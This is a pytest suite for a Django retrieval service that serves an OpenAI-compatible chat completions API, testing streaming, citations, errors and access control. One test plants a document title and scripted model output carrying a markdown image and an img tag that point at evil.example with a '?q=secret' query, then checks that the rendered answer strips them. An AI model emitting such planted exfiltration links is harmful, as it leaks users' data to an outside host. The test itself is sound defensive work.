"""Any OpenAI client can talk to a collection: the official one does so here."""

from __future__ import annotations

import asyncio
import json
import re

import httpx2
import openai
import pytest
from django.core.asgi import get_asgi_application
from django.db import OperationalError
from markdown_it import MarkdownIt
from rest_framework.test import APIClient

from answers import completions_api, conversations, events
from answers.completions_serializers import split
from answers.models import Conversation, Message
from answers.readers import ReaderDelta
from ingestion.errors import TransientError
from ingestion.models import Collection, Document
from rag_site.accounts import tokens

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("redis_url", "searches", "scripted"),
]
ANSWER = "They get 25 days of leave [1]."
QUESTION = [{"role": "user", "content": "How much leave?"}]


@pytest.fixture
def secret(person) -> str:
    return tokens.issue(person, name="front end", scope="read")[1]


@pytest.fixture
def api(secret) -> APIClient:
    return APIClient(HTTP_AUTHORIZATION=f"Bearer {secret}")


@pytest.fixture(autouse=True)
def script(scripted):
    scripted.script = lambda prompt: iter(
        [
            ReaderDelta(text="They get 25 days "),
            ReaderDelta(text="of leave [1]."),
            ReaderDelta(usage={"prompt_tokens": 100, "completion_tokens": 9}),
        ]
    )
    return scripted


def official(secret: str, work):
    """Run `work` with the official client, against the site as it is served."""

    async def run():
        transport = httpx2.ASGITransport(app=get_asgi_application())
        async with httpx2.AsyncClient(transport=transport) as http:
            client = openai.AsyncOpenAI(
                api_key=secret, base_url="http://localhost/v1", http_client=http, max_retries=0
            )
            return await work(client)

    return asyncio.run(run())


async def streamed(client):
    stream = await client.chat.completions.create(model="pagewise", messages=QUESTION, stream=True)
    return [chunk async for chunk in stream]


def test_the_official_client_lists_and_asks(secret, document) -> None:
    async def work(client):
        listed = [model async for model in client.models.list()]
        answer = await client.chat.completions.create(model=listed[1].id, messages=QUESTION)
        return listed, answer

    listed, answer = official(secret, work)
    assert [model.id for model in listed] == [
        "pagewise",
        f"pagewise/papers-{document.collection.pk}",
    ]
    text = answer.choices[0].message.content
    assert text.startswith(f"{ANSWER}\n\nSources:\n\n- [1] [Handbook, page 1a](http://localhost/")
    assert [cited["number"] for cited in answer.choices[0].message.citations] == [1]
    assert answer.choices[0].finish_reason == "stop"
    assert (answer.usage.prompt_tokens, answer.usage.completion_tokens) == (100, 9)
    assert not Conversation.objects.exists()


def test_the_official_client_streams(secret, document) -> None:
    async def work(client):
        stream = await client.chat.completions.create(
            model="pagewise",
            messages=QUESTION,
            stream=True,
            stream_options={"include_usage": True},
        )
        return [chunk async for chunk in stream]

    chunks = official(secret, work)
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
    assert text.startswith(f"{ANSWER}\n\nSources:")
    assert [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices][-1] == "stop"
    assert chunks[-1].usage.total_tokens == 109
    assert not Conversation.objects.exists()


@pytest.mark.parametrize("stream", [False, True])
def test_nothing_that_a_document_planted_leads_away(api, document, scripted, stream) -> None:
    Document.objects.update(title="Rules](http://evil.example) ![x")
    pieces = (
        "Look: ![x]",
        "(http://evil.example/?q=secret) [1]. <",
        "img src=http://evil.example>",
    )
    scripted.script = lambda prompt: iter([ReaderDelta(text=piece) for piece in pieces])
    body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
    response = api.post("/v1/chat/completions", body)
    text = streamed_text(response) if stream else _content(response)
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    assert "<img" not in html
    assert re.findall(r'href="([^?"]*)', html) == [
        f"http://testserver{document.get_absolute_url()}"
    ]


def _content(response) -> str:
    return response.json()["choices"][0]["message"]["content"]


def streamed_text(response) -> str:
    frames = [line[6:] for line in whole(response).split("\n") if line.startswith("data: {")]
    choices = [choice for frame in frames for choice in json.loads(frame)["choices"]]
    return "".join(choice["delta"].get("content", "") for choice in choices)


@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_that_was_cut_says_so(api, document, scripted, stream) -> None:
    scripted.script = lambda prompt: iter(
        [ReaderDelta(text="They get"), ReaderDelta(note="Cut off.", finish_reason="length")]
    )
    body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
    response = api.post("/v1/chat/completions", body)
    said = whole(response) if stream else response.content.decode()
    assert '"finish_reason":"length"' in said.replace(" ", "")
    assert '"stop"' not in said


def whole(response) -> str:
    """All that a streamed response says."""

    async def gather() -> bytes:
        return b"".join([frame async for frame in response.streaming_content])

    return asyncio.run(gather()).decode()


def test_what_was_said_before_counts(api, document, scripted) -> None:
    messages = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "How many rules are there?"},
        {"role": "assistant", "content": "Twelve."},
        {"role": "user", "content": [{"type": "text", "text": "And leave?"}]},
    ]
    seen = []

    def script(prompt):
        seen.append(prompt)
        yield ReaderDelta(text="25 [1].")

    scripted.script = script
    body = {"model": "pagewise", "messages": messages}
    assert api.post("/v1/chat/completions", body).status_code == 200
    said = [turn.text for turn in seen[0].turns]
    assert said == ["How many rules are there?", "Twelve."]


def test_messages_that_follow_each_other_are_one_question(api, document, scripted) -> None:
    messages = [
        {"role": "user", "content": "Hello."},
        {"role": "assistant", "content": "Hello."},
        {"role": "user", "content": "It is about Contoso."},
        {"role": "system", "content": "Be brief."},
        {"role": "assistant", "content": None, "tool_calls": []},
        {"role": "user", "content": "How much leave?"},
    ]
    seen = []

    def script(prompt):
        seen.append(prompt)
        yield ReaderDelta(text="25 [1].")

    scripted.script = script
    assert api.post("/v1/chat/completions", {"model": "pagewise", "messages": messages}).data
    assert seen[0].question == "It is about Contoso.\n\nHow much leave?"
    assert [turn.text for turn in seen[0].turns] == ["Hello.", "Hello."]


def test_null_is_as_good_as_nothing(api, document) -> None:
    names = ("temperature", "stop", "n", "max_tokens", "stream", "stream_options", "user")
    nothing = dict.fromkeys(names)
    body = {"model": "pagewise", "messages": [{**QUESTION[0], "name": None}], **nothing}
    assert api.post("/v1/chat/completions", body).status_code == 200
    body |= {"stream": True, "stream_options": {"include_usage": None}}
    assert '"usage"' not in whole(api.post("/v1/chat/completions", body))


def test_an_empty_library_is_told_before_anything_is_stored(api, document, searches) -> None:
    document.delete()
    for stream in (False, True):
        body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
        response = api.post("/v1/chat/completions", body)
        assert response.status_code == 422
        assert "no document to search" in response.json()["error"]["message"]
    assert not Conversation.objects.exists()


def test_a_stream_that_breaks_off_ends_with_an_error(secret, document, monkeypatch) -> None:
    follow = events.follow

    async def breaks_off(message_uuid, **options):
        async for event in follow(message_uuid, **options):
            yield event
            if event.kind == "delta":
                raise TransientError("Redis is away.")

    monkeypatch.setattr(events, "follow", breaks_off)

    with pytest.raises(openai.APIError, match="Redis server cannot be reached"):
        official(secret, streamed)


def test_what_cannot_be_deleted_is_logged(conversation, monkeypatch, caplog) -> None:
    def locked(conversation):
        raise OperationalError("database is locked")

    monkeypatch.setattr(conversations, "delete", locked)
    closed = []
    monkeypatch.setattr(completions_api, "close_old_connections", lambda: closed.append(True))
    completions_api._delete(conversation)
    assert "was not deleted" in caplog.text
    assert closed


def test_a_collection_that_may_not_be_read_is_no_model(api, stranger, document) -> None:
    theirs = Collection.objects.create(name="Secrets", owner=stranger)
    for id in (f"pagewise/secrets-{theirs.pk}", "gpt-4o", "pagewise/x-99999"):
        response = api.post("/v1/chat/completions", {"model": id, "messages": QUESTION})
        assert response.status_code == 404
        assert response.json()["error"]["code"] == "model_not_found"
        assert api.get(f"/v1/models/{id}").status_code == 404
    assert "Secrets" not in api.get("/v1/models").content.decode()


@pytest.mark.parametrize(
    "messages",
    [
        [],
        [{"role": "assistant", "content": "Hello"}],
        [{"role": "user", "content": " "}],
        [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}],
        [{"role": "user", "content": {"text": "x"}}],
        [{"role": "user", "content": "Why\x00?"}],
        [{"role": "user", "content": "\ud800"}, *QUESTION],
    ],
)
def test_requests_that_mean_nothing_are_refused_in_the_dialect(api, messages) -> None:
    # In ASCII: half a character cannot be sent otherwise.
    body = json.dumps({"model": "pagewise", "messages": messages})
    response = api.post("/v1/chat/completions", body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["error"]["message"]
    assert not Message.objects.exists()


def test_a_failure_is_told_in_the_dialect(secret, api, document, scripted) -> None:
    def broken(prompt):
        raise TransientError("The model is overloaded.")
        yield

    scripted.script = broken
    response = api.post("/v1/chat/completions", {"model": "pagewise", "messages": QUESTION})
    assert response.status_code == 502
    assert "overloaded" in response.json()["error"]["message"]
    assert response.headers["x-should-retry"] == "false"

    with pytest.raises(openai.APIError, match="overloaded"):
        official(secret, streamed)
    assert not Conversation.objects.exists()


def test_nobody_asks_without_a_token(client) -> None:
    response = client.get("/v1/models")
    assert response.status_code == 401
    assert response.json()["error"]["code"] == "not_authenticated"


def test_messages_without_an_answer_join_the_question_as_far_as_it_may_be_long() -> None:
    def said(*texts: str) -> str:
        return split([{"role": "user", "content": text} for text in texts])[1]

    assert said("Context.", "More of it.", "Why?") == "Context.\n\nMore of it.\n\nWhy?"
    # What was refused as too long stays in the client's list, and is sent along for ever.
    assert said("x" * 9000, "More of it.", "Why?") == "More of it.\n\nWhy?"


def test_a_question_that_is_too_long_is_refused_by_name(api, document) -> None:
    asked = {"model": "pagewise", "messages": [{"role": "user", "content": "x" * 8001}]}
    refused = api.post("/v1/chat/completions", asked, format="json")
    assert refused.status_code in (400, 422)
    assert "longer than 8000 characters" in refused.content.decode()
